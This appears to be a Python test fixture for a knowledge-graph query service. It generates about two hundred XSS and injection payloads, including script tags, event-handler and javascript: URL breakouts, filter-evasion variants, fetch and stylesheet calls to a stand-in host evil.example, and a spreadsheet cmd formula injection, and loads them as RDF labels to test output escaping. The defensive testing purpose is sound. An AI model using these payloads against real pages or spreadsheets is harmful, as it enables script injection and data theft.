"""Texts that would run, break out or be taken for something else in a careless page."""

import itertools

import pyoxigraph as ox

from kg.errors import QueryError
from kg.iris import RDFS
from kg.query import formats
from kg.query.admission import Admitted, admit
from kg.query.client import Answer
from kg.query.evaluate import Request, evaluate
from tests.api.standins import RoteQueries

_SCRIPTS = ("alert(1)", "alert(document.domain)", "top.pwned=1", "fetch('//evil.example')")
_SHAPES = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "\"><img src=x onerror={}>",
    "'><svg onload={}>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<body onload={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<a href=javascript:{}>x</a>", "javascript:{}", "data:text/html,<script>{}</script>",
    "\" autofocus onfocus=\"{}", "' onmouseover='{}", "` onclick={}", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</template><script>{}</script>", "<!--><script>{}</script>",
    "<math><mi//xlink:href=\"javascript:{}\">", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<form action=javascript:{}><button>x</button></form>",
    "<link rel=stylesheet href=//evil.example/{}>", "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import'//evil/{}'</style>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<marquee onstart={}>",
    "<select autofocus onfocus={}>", "<isindex type=image src=1 onerror={}>",
    "<x contenteditable onblur={}>lose focus</x>", "{{{{ {} }}}}", "{{% {} %}}", "${{{}}}",
    "<gluteal-sparql onclick={}>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "&lt;script&gt;{}&lt;/script&gt;", "<scr<script>ipt>{}</scr</script>ipt>",
    "\\u003cscript\\u003e{}", "<a\thref=\"jav&#x09;ascript:{}\">x</a>",
    "<svg><a xlink:href=\"javascript:{}\"><text>x</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<table background=javascript:{}>",
    "<div style=\"background:url(javascript:{})\">", "<keygen autofocus onfocus={}>",
    "=cmd|' /C {}'!A0",
)
PAYLOADS = [shape.format(script) for shape, script in itertools.product(_SHAPES, _SCRIPTS)]
"""Two hundred of them."""


class SmallStore(RoteQueries):
    """Answers queries over one label of each payload, evaluated as in a worker."""

    def __init__(self, error: QueryError | None = None) -> None:
        """Fill the store; ``error`` is raised instead of an answer."""
        super().__init__(error)
        self.store = ox.Store()
        label = ox.NamedNode(RDFS + "label")
        for at, text in enumerate(PAYLOADS):
            self.store.add(ox.Quad(ox.NamedNode(f"urn:p:{at}"), label, ox.Literal(text)))

    def run(self, query, accept=None, bindings=None, **_):
        """Evaluate ``query``."""
        if self.error is not None:
            raise self.error
        admitted = query if isinstance(query, Admitted) else admit(query)
        media_type = formats.choose(admitted.form, accept) or formats.JSON
        body = evaluate(self.store, Request(admitted.text, media_type, bindings=bindings), 10**7)
        return Answer(media_type, body, admitted.form, 0.0042)
